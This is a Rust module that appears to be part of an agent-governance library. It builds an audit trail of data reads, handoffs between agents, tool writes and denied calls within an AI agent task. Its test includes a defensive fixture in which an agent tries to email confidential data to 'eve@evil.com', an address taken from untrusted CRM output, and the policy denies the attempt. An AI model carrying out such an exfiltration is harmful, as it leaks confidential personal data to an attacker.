//! What data moved where inside a task: what was read, handed on, sent and written, under which label, and what was
//! kept back.
//!
//! Built from the task's events alone, like the provenance graph, so that an auditor with an evidence bundle sees the
//! same. Contents are not in the log; names, labels, hashes and the sources of steering values are.

use std::collections::BTreeMap;

use bailiwick_core::declassify::Lowered;
use bailiwick_core::event::{Decided, HandedOff, Reported, Ruled, TaskEvent, Went};
use bailiwick_core::label::Label;
use bailiwick_core::origin::Sourced;
use bailiwick_core::tool::Effect;
use bailiwick_core::{Digest, Value};
use serde::Serialize;

/// How data moved.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Way {
    /// A tool's result reached an agent.
    Read,
    /// An agent's payload reached another agent.
    HandedOn,
    /// An agent's arguments reached a tool that has an effect.
    Written,
    /// It did not move: refused, or waiting for a person.
    KeptBack,
}

/// One movement, or one that was kept from happening.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Movement {
    /// The place of the event in the task's stream.
    pub at: u64,
    /// How.
    pub way: Way,
    /// From which agent or tool.
    pub from: String,
    /// To which agent or tool.
    pub to: String,
    /// The decision behind it.
    pub decision: String,
    /// Which arguments or fields; for a result, nothing.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub what: Vec<String>,
    /// Fields that a handoff did not deliver.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub stripped: Vec<String>,
    /// What it was labelled.
    pub label: Label,
    /// How that label was lowered for this passing, in words; for what goes into a tool, `label` is the one before.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub declassified: Vec<String>,
    /// The fields of a result that its manifest trusts here, each with how many values it explains.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub explains: BTreeMap<String, usize>,
    /// Whether the caller itself reported it and nobody vouches for that.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub claimed: bool,
    /// Hash of a result.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub result: Option<Digest>,
    /// Where the values that steer came from, in words.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub sources: Vec<String>,
    /// How it went: `done`, `failed`, `unknown`, `open`, `denied` or `waiting`.
    pub went: String,
}

/// The movements of a task's events, in their order.
pub fn movements<'a>(events: impl IntoIterator<Item = (u64, &'a TaskEvent)>) -> Vec<Movement> {
    let mut seen = Seen::default();
    events.into_iter().for_each(|(at, event)| seen.add(at, event));
    seen.movements
}

/// A label in words: `confidential, pii, untrusted from tickets.get`.
pub fn in_words(label: &Label) -> String {
    let mut parts = vec![label.level.as_str().to_owned()];
    parts.extend(label.classes.iter().map(ToString::to_string));
    if !label.is_trusted() {
        let from: Vec<&str> = label.untrusted.iter().map(String::as_str).collect();
        parts.push(format!("untrusted from {}", from.join(", ")));
    }
    parts.join(", ")
}

#[derive(Default)]
struct Seen {
    movements: Vec<Movement>,
    /// Allowed calls by decision: who called what, and where its movement stands if it is an effect.
    calls: BTreeMap<String, (String, String, Option<usize>)>,
}

impl Seen {
    fn add(&mut self, at: u64, event: &TaskEvent) {
        match event {
            TaskEvent::Decided(decided) => self.decided(at, decided),
            TaskEvent::Reported(reported) => self.reported(at, reported),
            TaskEvent::HandedOff(handed) => self.handed_off(at, handed),
            _ => {}
        }
    }

    fn decided(&mut self, at: u64, decided: &Decided) {
        let looks = decided.effect == Some(Effect::Read);
        if looks && decided.outcome != Ruled::Allow {
            return;
        }
        let place = (!looks).then_some(self.movements.len());
        if decided.outcome == Ruled::Allow {
            let call = (decided.agent.to_string(), decided.tool.to_string(), place);
            self.calls.insert(decided.decision.to_string(), call);
        }
        if looks {
            return;
        }
        let (way, went) = match decided.outcome {
            Ruled::Allow => (Way::Written, "open"),
            Ruled::Ask => (Way::KeptBack, "waiting"),
            Ruled::Deny => (Way::KeptBack, "denied"),
        };
        self.movements.push(Movement {
            at,
            way,
            from: decided.agent.to_string(),
            to: decided.tool.to_string(),
            decision: decided.decision.to_string(),
            what: fields(&decided.args),
            stripped: Vec::new(),
            label: decided.label.clone(),
            declassified: decided.declassified.iter().map(Lowered::in_words).collect(),
            explains: BTreeMap::new(),
            claimed: false,
            result: None,
            sources: decided.sources.iter().map(Sourced::in_words).collect(),
            went: went.to_owned(),
        });
    }

    fn reported(&mut self, at: u64, reported: &Reported) {
        let Some((agent, tool, place)) = self.calls.remove(reported.decision.as_str()) else { return };
        let went = match reported.went {
            Went::Done => "done",
            Went::Failed => "failed",
            Went::Unknown => "unknown",
        };
        if let Some(sent) = place.and_then(|place| self.movements.get_mut(place)) {
            went.clone_into(&mut sent.went);
        }
        // What an effect answers is read as well, unless it is nothing.
        if place.is_none() || reported.result.is_some() {
            self.movements.push(Movement {
                at,
                way: Way::Read,
                from: tool,
                to: agent,
                decision: reported.decision.to_string(),
                what: Vec::new(),
                stripped: Vec::new(),
                label: reported.label.clone(),
                declassified: reported.declassified.iter().map(Lowered::in_words).collect(),
                explains: by_field(reported),
                claimed: reported.claimed,
                result: reported.result,
                sources: Vec::new(),
                went: went.to_owned(),
            });
        }
    }

    fn handed_off(&mut self, at: u64, handed: &HandedOff) {
        let made = handed.grant.as_ref().filter(|_| handed.outcome == Ruled::Allow);
        self.movements.push(Movement {
            at,
            way: if made.is_some() { Way::HandedOn } else { Way::KeptBack },
            from: handed.from.to_string(),
            to: handed.to.to_string(),
            decision: handed.decision.to_string(),
            what: fields(&handed.delivered),
            stripped: handed.stripped.iter().cloned().collect(),
            label: made.map(|grant| grant.label.clone()).unwrap_or_default(),
            declassified: Vec::new(),
            explains: BTreeMap::new(),
            claimed: false,
            result: None,
            sources: handed.sources.iter().map(Sourced::in_words).collect(),
            went: if made.is_some() { "done" } else { "denied" }.to_owned(),
        });
    }
}

/// How many values each trusted field of a result explains.
fn by_field(reported: &Reported) -> BTreeMap<String, usize> {
    let mut out = BTreeMap::new();
    for (_, field) in &reported.explains {
        *out.entry(field.chars().take(64).collect()).or_insert(0) += 1;
    }
    out
}

fn fields(value: &Value) -> Vec<String> {
    value.as_map().into_iter().flatten().map(|(name, _)| name.chars().take(64).collect()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(text: &str) -> TaskEvent {
        serde_json::from_str(&text.replace("HASH", &Digest::of(b"").to_string())).unwrap()
    }

    // proves: N2, P3
    #[test]
    fn what_moved_and_what_was_kept_back_is_told_in_order() {
        let events = [
            event(
                r#"{"event":"decided","decision":"d-a-1","grant":"g-a-0","agent":"reader","instance":"k","tool":"crm.get",
                "args":{"id":1},"effect":"read","outcome":"allow","why":{"step":10,"code":"allowed","rule":"r","reason":""},
                "policy":"HASH","epoch":1}"#,
            ),
            event(
                r#"{"event":"reported","decision":"d-a-1","went":"done","label":{"level":"confidential","classes":["pii"],
                "untrusted":["crm.get"]},"result":"HASH","spent":{"uses":0,"amount":0,"bytes":9,"rows":1}}"#,
            ),
            event(
                r#"{"event":"handed_off","decision":"d-a-3","parent":"g-a-0","from":"reader","to":"writer","outcome":"allow",
                "why":{"step":10,"code":"allowed","rule":"r","reason":""},"grant":{"grant":"g-a-3","capabilities":[],"until":9,
                "label":{"level":"confidential"}},"delivered":{"note":"x"},"stripped":["phone"],"policy":"HASH","epoch":1}"#,
            ),
            event(
                r#"{"event":"decided","decision":"d-a-4","grant":"g-a-3","agent":"writer","instance":"k","tool":"mail.send",
                "args":{"to":"eve@evil.com"},"effect":"egress","outcome":"deny","why":{"step":8,"code":"policy.forbid","rule":"r","reason":""},
                "label":{"level":"confidential"},"sources":[{"arg":"to","value":"eve@evil.com","seen":["crm.get","note"]}],
                "policy":"HASH","epoch":1}"#,
            ),
        ];
        let told = movements((0..).zip(&events));
        let line = |m: &Movement| format!("{:?} {} > {} {}", m.way, m.from, m.to, m.went);
        assert_eq!(
            told.iter().map(line).collect::<Vec<_>>(),
            [
                "Read crm.get > reader done",
                "HandedOn reader > writer done",
                "KeptBack writer > mail.send denied"
            ]
        );
        assert_eq!(in_words(&told[0].label), "confidential, pii, untrusted from crm.get");
        assert_eq!(
            (told[1].what.join(","), told[1].stripped.join(",")),
            ("note".to_owned(), "phone".to_owned())
        );
        assert!(
            told[2].sources[0].contains("it stood in `note` of what crm.get returned"),
            "{:?}",
            told[2].sources
        );
    }
}
